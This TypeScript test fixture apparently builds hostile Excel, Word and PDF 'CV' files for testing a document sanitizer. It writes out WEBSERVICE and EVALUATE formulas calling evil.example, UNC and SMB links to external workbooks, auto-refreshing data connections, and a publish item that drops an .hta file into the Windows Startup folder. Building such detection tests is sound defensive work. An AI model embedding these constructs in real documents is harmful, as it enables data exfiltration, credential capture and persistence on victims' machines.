import { type BinaryRecord, binaryCell, binaryName, binarySheet, wideText } from '../../../support/binary-workbook';
import { compoundFile } from '../../../support/compound-file';
import { binaryWorkbookType, docxFile } from '../../../support/docx';
import { funcVar, int, name } from '../../../support/formula-tokens';
import {
  addInName,
  excel5,
  type OldRecord,
  oldCell,
  oldRecords,
  oldWorkbook,
  ownName,
} from '../../../support/old-workbook';
import { attachedPdf } from '../../../support/pdf/make';
import { blip, emfWith, eps, packedBlip, packedKinds } from '../../../support/pictures';
import { shape, shapeProperties, wideName } from '../../../support/word-pictures';
import { wordFile } from '../../../support/word97';
import { evaluate } from './formulas';
import type { Hostile } from './hostile';

const office = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const strict = 'http://purl.oclc.org/ooxml/spreadsheetml/main';
const compatibility = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const chart = 'http://schemas.openxmlformats.org/drawingml/2006/chart';

/** A workbook of Excel with one part. */
export const workbook = (part: string) =>
  docxFile({ 'xl/a.xml': part }, { '/word/document.xml': `${office}.sheet.main+xml` });

/** A part of a workbook, with prefixes for newer elements and for those that nobody knows. */
export const sheet = (content: string, attributes = '') =>
  `<worksheet xmlns="${main}" xmlns:mc="${compatibility}" xmlns:q="urn:q" xmlns:p="${main}" mc:Ignorable="q" ${attributes} xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns:c="${chart}">${content}</worksheet>`;

const fetching = '_xlfn.WEBSERVICE("http://evil.example")';
const quoted = fetching.replaceAll('"', '&quot;');

/** Where Excel and its imitators have formulas, and where they may have them next. */
const places = [
  ...['f', 'formula', 'formula1', 'oldFormula', 'definedName', 'calculatedColumnFormula', 'nobodyKnows'].map(
    (name) => `<${name}>${fetching}</${name}>`,
  ),
  ...['<p:f>', '<xm:f>', '<x14:anything>', '<q:t>', '<q:f>', '<xm:t>', '<c:f>', `<f xmlns="${strict}">`].map(
    (tag) => `${tag}${fetching}</${tag.replace(/[<>]|\s.*$/g, '')}>`,
  ),
  `<cfvo type="formula" val="${quoted}"/>`,
  `<cacheField name="a" formula="${quoted}"/>`,
  `<definedName name="a" refersTo="${quoted}"/>`,
  `<c q:name="${quoted}"/>`,
  `<f>WEBSERVICE<!-- x -->(A1)</f>`,
  `<f><![CDATA[WEBSERVICE]]>(A1)</f>`,
];

/** Formulas in pieces, which programs put together in different ways. */
const inPieces = [
  ...['q:x', 'p:x', 'x'].flatMap((name) => [
    `<f><${name}/>${fetching}</f>`,
    `<f>1+<${name}/>${fetching}</f>`,
    `<definedName name="a"><${name}/>${fetching}</definedName>`,
    `<v>1<${name}/></v>`,
  ]),
  "<f><q:x/>'http://evil.example/[a.xlsx]S'!A1</f>",
  '<f><mc:AlternateContent><mc:Choice Requires="p">WEBSERVICE</mc:Choice></mc:AlternateContent></f>',
  '<f mc:ProcessContent="q:x"><q:x>WEBSERVICE</q:x><q:x>("x")</q:x></f>',
];

/** Attributes that name the file of something. */
const fetched = [
  '<Schema SchemaRef="http://evil.example/a.xsd"/>',
  '<DataBinding FileBinding="true" FileBindingName="//evil.example/share/a.xml"/>',
];

/** Pages that Excel writes whenever the workbook is saved. */
const publishing = [
  '<webPublishItem destinationFile="\\\\evil.example\\share\\a.htm"/>',
  '<webPublishItem destinationFile="C:\\Users\\Public\\Start Menu\\Programs\\Startup\\x.hta" autoRepublish="1"/>',
  '<webPublishItems count="1"/>',
  '<p:webPublishObject destinationFile="a.htm" autoRepublish="1"/>',
  '<webPublishObjects count="1"/>',
];

/** Names of a sheet or a range in a workbook elsewhere. */
const namesElsewhere = [
  '[\\\\evil.example\\s\\x.xlsx]S',
  "'[\\\\evil.example\\s\\x.xlsx]S'",
  '[//evil.example/s/x.xlsx]S',
  '\\\\evil.example\\s\\[x.xlsx]S',
  '\\\\evil.example\\s\\x.xlsx!N',
  'http://evil.example/x.xlsx!N',
  '[http:evil/x.xlsx]S',
  '[%5c%5cevil.example%5cs%5cx.xlsx]S',
  '[smb:evil/x.xlsx]S',
  '[\\??\\UNC\\evil.example\\x.xlsx]S',
  'C:\\[\\\\evil.example\\s\\x.xlsx]S',
];
const sourceElements = ['worksheetSource', 'rangeSet', 'dataRef'].flatMap((element) =>
  ['name', 'sheet'].flatMap((attribute) =>
    namesElsewhere.map((one) => `<${element} ref="A1:B2" ${attribute}="${one}"/>`),
  ),
);

/** What says where a workbook has its values from. */
const connections = [
  '<connection id="1" name="x" type="5" odcFile="http://evil.example/x.odc" onlyUseConnectionFile="1" refreshOnLoad="1"/>',
  '<connection id="1" name="x" type="5" odcFile="\\\\evil.example\\s\\x.odc"/>',
  '<connection id="1" name="x" type="1" sourceFile="\\\\evil.example\\s\\x.mdb" refreshOnLoad="1"/>',
  '<connection id="1" name="x" type="100"/>',
  '<queryTable name="x" connectionId="1" refreshOnLoad="1"/>',
];

/** Addresses with a server, in the ways that programs read. */
const servers = [
  'http://evil.example/x',
  '\\\\evil.example\\x',
  '//evil.example/x',
  'file://evil.example/x',
  'http:evil',
];

const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
  ...places.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'a formula that fetches']),
  ...fetched.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
  ...publishing.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'to a web page by itself']),
  ...sourceElements.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
  ...inPieces.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'locked or broken']),
  ...connections.map((one): (typeof workbooks)[number] => [
    one,
    workbook(`<connections xmlns="${main}">${one}</connections>`),
    'its values from elsewhere',
  ]),
  ...servers.map((place): (typeof workbooks)[number] => [
    `the address ${place} in an attribute that nobody knows`,
    workbook(sheet(`<v unknown="${place}"/>`)),
    'fetched from elsewhere',
  ]),
  [
    'text of Word in a formula',
    workbook(
      sheet(`<f><w:t xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${fetching}</w:t></f>`),
    ),
    'a formula that fetches',
  ],
  [
    'a chart with a formula',
    workbook(`<c:chartSpace xmlns:c="${chart}"><c:f>${fetching}</c:f></c:chartSpace>`),
    'a formula that fetches',
  ],
  [
    'a shape with a formula',
    workbook(
      `<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><d:sp textlink="${quoted}"/></d:wsDr>`,
    ),
    'a formula that fetches',
  ],
];

const source = (...data: (number | string)[]): OldRecord => [
  0x1ae,
  Buffer.concat(data.map((one) => (typeof one === 'string' ? Buffer.from(one, 'latin1') : Buffer.of(one)))),
];

/** A calculated field. */
const pivotCache = Buffer.concat([Buffer.of(0xf9, 0, 10, 0, 6, 0, 0, 0), ...evaluate]);

const oldWorkbooks: typeof workbooks = [
  ['a source on the web', oldWorkbook(source(1, 0, 21, 0, 0, '\x01http://evil.example/x')), 'fetched from elsewhere'],
  [
    'a source on a server',
    oldWorkbook(source(1, 0, 16, 0, 0, '\x01\x01@evil\x03s\x03a.xls')),
    'fetched from elsewhere',
  ],
  ['a source of one letter', oldWorkbook(source(1, 0, 1, 0, 0, 'a')), 'fetched from elsewhere'],
  ['a source that breaks off', oldWorkbook(source(1, 0)), 'fetched from elsewhere'],
  ['a source of Excel 5', oldWorkbook(excel5, [0x17, Buffer.from('\x05\x01cmd\x03')]), 'fetched from elsewhere'],
  ['a sheet that says itself that it has macros', oldWorkbook([0x809, Buffer.of(0, 6, 0x40, 0)]), 'macros'],
  ['controls', compoundFile({ Workbook: oldRecords([]), Ctls: 'x' }), 'controls'],
  ['the name of a function', oldWorkbook(ownName('_xlfn.WEBSERVICE')), 'a formula that fetches'],
  ['the name of a function in wide letters', oldWorkbook(ownName('_xlfn.IMAGE', 'utf16le')), 'a formula that fetches'],
  ['the name of a function of an add-in', oldWorkbook(addInName('WEBSERVICE')), 'a formula that fetches'],
  ...[148, 149, 150, 267, 379].map((number): (typeof workbooks)[number] => [
    `function ${number}`,
    oldWorkbook(oldCell(int(1), funcVar(number, 1))),
    'a formula that fetches',
  ]),
  ['a name that calls EVALUATE', oldWorkbook(ownName('a', 'latin1', ...evaluate)), 'a formula that fetches'],
  ['a record beyond the end', compoundFile({ Workbook: oldRecords([], [6, 0, 30, 0]) }), 'locked or broken'],
  [
    'a field of a pivot table that calls EVALUATE',
    compoundFile({ Workbook: oldRecords([]), '_SX_DB_CUR/0001': pivotCache }),
    'a formula that fetches',
  ],
  [
    'the name of a function of an add-in of Excel 5',
    oldWorkbook(excel5, [0x23, Buffer.from('\0\0\0\0\0\0\x07DESKTOP')]),
    'a formula that fetches',
  ],
];

const linkedShape = (source: string) =>
  shape([
    [shapeProperties.name, wideName(source)],
    [shapeProperties.purpose, 10],
  ]);

/** What a shape of Word would fetch or start, in a workbook, in whatever pieces its record stands. */
const shapes: [what: string, shape: Buffer, because: Hostile['because']][] = [
  ['fetches its picture', linkedShape('http://evil.example/x.png'), 'from another computer'],
  ['has its picture on a server', linkedShape('\\\\evil.example\\a.png'), 'from another computer'],
  ['is PostScript', blip(eps), 'a picture that is a program'],
  ['is a metafile with PostScript', packedBlip(emfWith(eps), packedKinds.EMF), 'a picture that is a program'],
];

const drawnRecords = shapes.flatMap(([what, data, because]) => {
  const [start, end] = [data.subarray(0, 9), data.subarray(9)];
  const between: OldRecord = [0x5d, Buffer.alloc(26)];
  const pieces: [how: string, ...records: OldRecord[]][] = [
    ['', [0xec, data]],
    [', of all its sheets', [0xeb, data]],
    [', of its header', [0x866, Buffer.concat([Buffer.alloc(14), data])]],
    [', of a chart', [0x1066, data]],
    [', which goes on', [0xeb, start], [0x3c, end]],
    [', which goes on in the next of its kind', [0xec, start], [0xec, end]],
    [', which goes on behind its object', [0xec, start], between, [0x3c, end]],
  ];
  return pieces.map(([how, ...records]) => ({ what: `a drawing that ${what}${how}`, records, because }));
});

const inBinary: [what: string, ...records: BinaryRecord[]][] = [
  ['the name of a function', binaryName('_xlfn.WEBSERVICE')],
  ['the name of a function in small letters', binaryName('_XLFN.webservice')],
  ['a name that is a function', binaryName('WEBSERVICE', 0x2)],
  ['a name that is a newer function', binaryName('WEBSERVICE', 0x20000)],
  ['a name that calls EVALUATE', binaryName('a', 0, ...evaluate)],
  ['a call of a name that is no function', binaryName('WEBSERVICE'), binaryCell(name(1), funcVar(255, 1))],
  ['a function of an add-in', [667, Buffer.alloc(0)], [361, wideText('EDATE')], [361, wideText('WEBSERVICE')]],
  ...[148, 149, 150, 267, 379].map((number): (typeof inBinary)[number] => [
    `function ${number}`,
    binaryCell(int(1), funcVar(number, 1)),
  ]),
];

const binaryWorkbooks: typeof workbooks = [
  ...inBinary.map(([what, ...records]): (typeof workbooks)[number] => [
    `${what}, in binary form`,
    binarySheet(records),
    'a formula that fetches',
  ]),
  ['a source, in binary form', binarySheet([[355, wideText('rId1')]]), 'fetched from elsewhere'],
  ...[[7], [0x80], [0x80, 0x80, 1, 0], [7, 0x80], [7, 0x80, 0x80, 0x80, 0x80, 0], [7, 4, 0, 0, 0]].map(
    (end): (typeof workbooks)[number] => [`records that end in ${end}`, binarySheet([], end), 'locked or broken'],
  ),
];

const attached = (end: string, files: typeof workbooks): Hostile[] =>
  files.map(([what, file, because]) => {
    return { what: `a PDF with a .${end} with ${what}`, name: 'cv.pdf', data: attachedPdf(`a.${end}`, file), because };
  });

export const hostileWorkbooks: Hostile[] = [
  ...attached('xlsx', workbooks),
  ...attached('xls', oldWorkbooks),
  ...drawnRecords.flatMap(({ what, records, because }): Hostile[] => {
    const data = wordFile({ text: 'CV' }, { 'ObjectPool/_1/Workbook': oldRecords(records) });
    const inWord: Hostile = { what: `a .doc with a workbook with ${what}`, name: 'cv.doc', data, because };
    return [...attached('xls', [[what, oldWorkbook(...records), because]]), inWord];
  }),
  ...attached('xlsx', binaryWorkbooks),
  {
    what: 'a Word file with a worksheet in binary form with a formula that fetches',
    name: 'cv.docx',
    data: docxFile(
      { 'word/embeddings/a.xlsb': binarySheet([binaryName('_xlfn.WEBSERVICE')]) },
      { xlsb: binaryWorkbookType },
    ),
    because: 'a formula that fetches',
  },
];
